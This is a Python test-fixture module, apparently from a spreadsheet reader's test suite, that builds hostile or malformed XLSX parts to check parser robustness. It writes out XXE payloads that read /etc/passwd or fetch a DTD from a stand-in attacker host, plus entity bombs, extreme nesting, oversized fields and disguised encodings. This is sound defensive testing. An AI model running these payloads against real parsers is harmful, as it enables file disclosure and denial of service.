"""Parts whose XML is a trap: entities, encodings, depth, length, and what is not XML at all."""

# ruff: noqa: E501 (XML reads best on one line)

from __future__ import annotations

from collections.abc import Callable, Mapping

from books import parts, with_part
from hostile_base import (
    BOOK,
    CORE,
    CUSTOMERS,
    LINKS,
    MAIN,
    STYLES,
    TABLE,
    TEXTS,
    TYPES,
    after_declaration,
    bombed,
    changed,
    good,
    noise,
    raw_rows,
    recoded,
    with_members,
)  # fmt: skip

EXTERNAL = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>'
DEEP = 100_000


def cut(part: str, share: float) -> bytes:
    return with_part(good(), part, lambda content: content[: int(len(content) * share)])


def without_declaration(part: str, encoding: str) -> bytes:
    """A part in an encoding that only its first bytes tell."""
    return with_part(good(), part, lambda c: c.partition(b"?>")[2].decode().encode(encoding))


def hidden_doctype(encoding: str, declared: str = "") -> bytes:
    text = f'<?xml version="1.0" encoding="{declared or encoding}"?><!DOCTYPE x [<!ENTITY a "b">]>'
    data = parts(good())[CUSTOMERS].partition(b"?>")[2]
    return with_part(good(), CUSTOMERS, lambda _: (text + data.decode()).encode(encoding))


def in_texts(text: str | bytes) -> bytes:
    """The good workbook with one more shared text, whatever it is."""
    inside = text.encode() if isinstance(text, str) else text
    return changed(TEXTS, (b"</sst>", b"<si><t>" + inside + b"</t></si></sst>"))


def nested(part: str, before: str) -> bytes:
    return changed(part, (before, before + "<x>" * DEEP + "</x>" * DEEP))


FILES: Mapping[str, Callable[[], bytes]] = {
    "entities in the sheet": lambda: bombed(CUSTOMERS),
    "entities in the texts": lambda: bombed(TEXTS),
    "entities in the workbook": lambda: bombed(BOOK),
    "entities in the types": lambda: bombed(TYPES),
    "entities in the styles": lambda: bombed(STYLES),
    "entities in the properties": lambda: bombed(CORE),
    "entities in the table": lambda: bombed(TABLE),
    "entities in the links": lambda: bombed(LINKS),
    "file as an entity": lambda: after_declaration(CUSTOMERS, EXTERNAL),
    "page as a parameter": lambda: after_declaration(TEXTS, PARAMETER),
    "bare doctype": lambda: after_declaration(CUSTOMERS, "<!DOCTYPE worksheet>"),
    "doctype after a long comment": lambda: after_declaration(CUSTOMERS, f"<!--{'x ' * 60_000}--><!DOCTYPE x>"),
    "doctype after many comments": lambda: after_declaration(CORE, "<!-- y -->\n" * 20_000 + "<!DOCTYPE x>"),
    "doctype after 17 mebibytes": lambda: after_declaration(CORE, f"<!--{noise(17 << 20)}--><!DOCTYPE x>"),
    "doctype in utf-16": lambda: hidden_doctype("utf-16"),
    "doctype in utf-16 without a mark": lambda: hidden_doctype("utf-16-be"),
    "doctype in utf-7": lambda: hidden_doctype("utf-7"),
    "doctype in ebcdic": lambda: hidden_doctype("cp037"),
    "doctype in a picture": lambda: with_members([("xl/media/logo.svg", b"<!DOCTYPE svg><svg/>")]),
    "doctype in vml": lambda: with_members([("xl/drawings/vmlDrawing1.vml", b"<!DOCTYPE x><xml/>")]),
    "doctype in a cell": lambda: in_texts("&lt;!DOCTYPE x&gt;"),
    "utf-32": lambda: recoded(CUSTOMERS, "utf-32"),
    "utf-16 without a mark": lambda: without_declaration(CUSTOMERS, "utf-16-le"),
    "utf-16 in name only": lambda: recoded(CUSTOMERS, "utf-8", "utf-16"),
    "latin-1": lambda: recoded(CUSTOMERS, "latin-1", "iso-8859-1"),
    "punycode": lambda: changed(CUSTOMERS, ('encoding="UTF-8"', 'encoding="punycode"')),
    "encoding of 3,000 letters": lambda: changed(CUSTOMERS, ('encoding="UTF-8"', f'encoding="{"x" * 3000}"')),
    "encoding beyond the first kibibyte": lambda: changed(CUSTOMERS, ('encoding="UTF-8"', f'{" " * 3000}encoding="idna"')),
    "unknown encoding": lambda: changed(CUSTOMERS, ('encoding="UTF-8"', 'encoding="klingon"')),
    "bad utf-8 in a text": lambda: in_texts(b"Mar\xff\xfe"),
    "bad utf-8 in a name": lambda: changed(BOOK, (b'name="Customers"', b'name="Custom\xc3\x28rs"')),
    "overlong utf-8": lambda: in_texts(b"\xc0\xbc\xc1\xa1"),
    "surrogates in utf-8": lambda: in_texts(b"\xed\xa0\x80"),
    "zero byte in the sheet": lambda: changed(CUSTOMERS, ("<sheetData>", "<sheetData>\0")),
    "zero bytes for the sheet": lambda: with_part(good(), CUSTOMERS, lambda c: bytes(len(c))),
    "text for the sheet": lambda: with_part(good(), CUSTOMERS, lambda _: b"customer_id,last_name\nC1,Marsh\n"),
    "nothing for the sheet": lambda: with_part(good(), CUSTOMERS, lambda _: b""),
    "page for the sheet": lambda: with_part(good(), CUSTOMERS, lambda _: b"<html><body/></html>"),
    "nothing for the workbook": lambda: with_part(good(), BOOK, lambda _: b""),
    "nothing for the texts": lambda: with_part(good(), TEXTS, lambda _: b""),
    "nothing for the table": lambda: with_part(good(), TABLE, lambda _: b""),
    "sheet cut": lambda: cut(CUSTOMERS, 0.6),
    "sheet cut before its cells": lambda: cut(CUSTOMERS, 0.01),
    "workbook cut": lambda: cut(BOOK, 0.5),
    "texts cut": lambda: cut(TEXTS, 0.5),
    "table cut": lambda: cut(TABLE, 0.5),
    "table twice over": lambda: with_part(good(), TABLE, lambda c: c + c),
    "depth in the sheet": lambda: nested(CUSTOMERS, "<sheetData>"),
    "depth before the cells": lambda: nested(CUSTOMERS, "<sheetPr>"),
    "depth in the workbook": lambda: nested(BOOK, "<workbookPr/>"),
    "depth in a text": lambda: in_texts("</t><r>" + "<x>" * DEEP + "</x>" * DEEP + "</r><t>"),
    "depth in a cell": lambda: raw_rows(f'<row r="2"><c r="A2" t="inlineStr"><is>{"<r>" * DEEP}{"</r>" * DEEP}</is></c></row>'),
    "100,000 attributes": lambda: changed(BOOK, ("<workbookPr", "<workbookPr " + " ".join(f'a{i}="1"' for i in range(100_000)))),
    "20,000 namespaces": lambda: changed(CUSTOMERS, ("<worksheet ", "<worksheet " + " ".join(f'xmlns:n{i}="u{i}"' for i in range(20_000)) + " ")),
    "attribute of 33 mebibytes": lambda: changed(BOOK, ("<workbookPr", f'<workbookPr a="{noise(33 << 20)}"')),
    "text of 17 mebibytes": lambda: in_texts(noise(17 << 20)),
    "comment of 17 mebibytes": lambda: changed(CUSTOMERS, ("<sheetData>", f"<sheetData><!--{noise(17 << 20)}-->")),
    "comment before the cells": lambda: changed(CUSTOMERS, ("<sheetData>", f"<!--{noise(8 << 20)}--><sheetData>")),
    "comment before the texts": lambda: changed(TEXTS, ("<si>", f"<!--{noise(8 << 20)}--><si>")),
    "comment of 8 mebibytes": lambda: changed(CUSTOMERS, ("<sheetData>", f"<sheetData><!--{noise(8 << 20)}-->")),
    "text of 8 mebibytes": lambda: in_texts(noise(8 << 20)),
    "attribute before the cells": lambda: changed(CUSTOMERS, ("<sheetPr>", f'<sheetPr a="{noise(8 << 20)}">')),
    "unclosed section": lambda: changed(CUSTOMERS, ("<sheetData>", "<sheetData><![CDATA[")),
    "unclosed comment": lambda: changed(CUSTOMERS, ("<sheetData>", "<sheetData><!--")),
    "undeclared entity": lambda: in_texts("&xxe;"),
    "character that is none": lambda: in_texts("&#0;&#x1F;"),
    "unbound prefix": lambda: changed(CUSTOMERS, ("<sheetData>", "<sheetData><z:row/>")),
    "cells in another namespace": lambda: changed(CUSTOMERS, (MAIN, "urn:something-else")),
    "cells with a prefix": lambda: with_part(good(), CUSTOMERS, lambda c: c.replace(b"<", b"<x:").replace(b"<x:/", b"</x:").replace(b"<x:?", b"<?").replace(b"xmlns=", b"xmlns:x=")),
    "no cell area": lambda: with_part(good(), CUSTOMERS, lambda c: c.replace(b"sheetData", b"sheetDate")),
    "two cell areas": lambda: changed(CUSTOMERS, ("<sheetData>", "<sheetData/><sheetData>")),
    "cells in a wrapping": lambda: changed(CUSTOMERS, ('<row r="2"', '<w><row r="2"'), ("</sheetData>", "</w></sheetData>")),
    "cells in a comment": lambda: changed(CUSTOMERS, ("<sheetData>", "<sheetData><!--"), ("</sheetData>", "--></sheetData>")),
    "empty cell area": lambda: with_part(good(), CUSTOMERS, lambda c: c[: c.index(b"<sheetData>")] + b"<sheetData/>" + c[c.index(b"</sheetData>") + 12 :]),
    "rows under another name": lambda: with_part(good(), CUSTOMERS, lambda c: c.replace(b"<row ", b"<raw ").replace(b"</row>", b"</raw>")),
}  # fmt: skip
